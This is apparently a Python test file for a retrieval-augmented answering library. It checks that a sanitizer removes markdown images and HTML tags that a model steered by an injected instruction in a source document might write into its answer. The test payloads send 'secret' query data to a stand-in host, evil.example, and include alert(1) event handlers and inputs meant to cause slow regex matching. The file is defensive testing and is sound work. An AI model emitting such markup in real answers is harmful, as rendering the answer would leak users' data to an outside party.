"""What an instruction in a document could have a model write, so that viewing the answer tells a stranger about it."""

import re

import pytest
from every import every
from markdown_it import MarkdownIt

import spanwise
from spanwise.answering.foreign_content import without_foreign
from spanwise.llm.scripted import ScriptedModel

KNOWN = ["The fee is 5 euros.", "https://ok.example/a.png"]
AWAY = "https://evil.example/p?q=secret"
IMAGES = [
    f"![x]({AWAY})",
    f"![x]( <{AWAY}>)",
    f"![x](<{AWAY} y>)",
    f'![x]({AWAY} "t (x)")',
    "![x](https://evil.example/a(1)?q=secret)",
    "![x](https://evil.example/a(1(2))?q=secret)",
    "![x](https://ok.example/a.png?q=secret)",
    f"![a [b] c]({AWAY})",
    f"![a\nb]({AWAY})",
    f"![a\\]]({AWAY})",
    f"![![x](a)x]({AWAY})",
    f"!![x](y)[z]({AWAY})",
    f"![x][b]\n\n[b]: {AWAY}",
    f"![b]\n\n> [b]: <{AWAY}> 'title'",
    f"![b][]\n\n[b]:\n{AWAY}",
]
ACTIVE = [
    f"<IMG SRC={AWAY}>",
    f"<img/src={AWAY}>",
    f"<img alt='<' src={AWAY}>",
    f"<img src={AWAY} ",
    f"<im<img src=a>g src={AWAY}>",
    f"<{'i<' * 20}img>{'mg>' * 20} src={AWAY}>",
    f"<picture><source srcset={AWAY}></picture>",
    f'<div style="background:url({AWAY})">a</div>',
    f"<table background={AWAY}><tr><td>",
    f"<track src={AWAY}>",
    "<marquee onstart=alert(1)>",
    '<div title="<" onclick=alert(1)>',
    "<!-- hidden --><!-<!----",
]


@every("text", IMAGES + ACTIVE)
def test_nothing_that_is_fetched_or_run_is_left(text):
    left, found = without_foreign(f"The fee is 5 euros [c1].\n\n{text}\n\nThat is all.", KNOWN)
    assert found
    assert left.startswith("The fee is 5 euros [c1].")
    assert "That is all." in left
    page = MarkdownIt("commonmark", {"html": True}).render(left)
    assert not re.search(r"<(?:img|div|table|track|source|picture|marquee)\b|<!--", page)
    assert not re.search(r"<\w[^>]*(?:src|style|background|onclick)=", page + ">")


@every(
    "text",
    [
        "Great![c1] and ![1]",
        '![a](https://ok.example/a.png) and ![b](https://ok.example/a.png "title") and ![c](<https://ok.example/a.png>)',
        "[a]: https://ok.example/a.png",
        "a <b and c> d, x < y > z <b>bold</b> <td class='x'>",
        "p <a threshold of 5 %. More [c1].",
        "[c1]: The fee/price is 5",
    ],
)
def test_what_a_chunk_has_and_plain_text_stay(text):
    assert without_foreign(text, KNOWN) == (text, [])


@pytest.mark.parametrize("policy", ["prune", "mark", "strict"])
@every("text", [f"![a\\]]({AWAY})", f'<div style="background:url({AWAY})"></div>', f"![x][b]\n\n[b]: {AWAY}"])
def test_no_policy_ships_it(policy, text):
    model = ScriptedModel([f"The fee is 5 euros [c1]. {text}"])
    output = spanwise.ResponseSynthesizer(model, policy=policy).synthesize(
        spanwise.SynthesisInput(
            trace_id="t", query="What is the fee?", retrieved_chunks=[{"chunk_id": "c1", "text": KNOWN[0]}]
        )
    )
    assert "foreign_content" in output.warnings
    assert not re.search(r"!\[|style=", output.answer)


@every(
    "text",
    ["![a", '<a "', "<a x='\"", "[a]: x/", "\n", "![a](", "![[a]", "!["],
)
def test_hostile_texts_take_linear_time(text):
    without_foreign(text * 5000 + "](x)" * 5000 + ">", KNOWN)
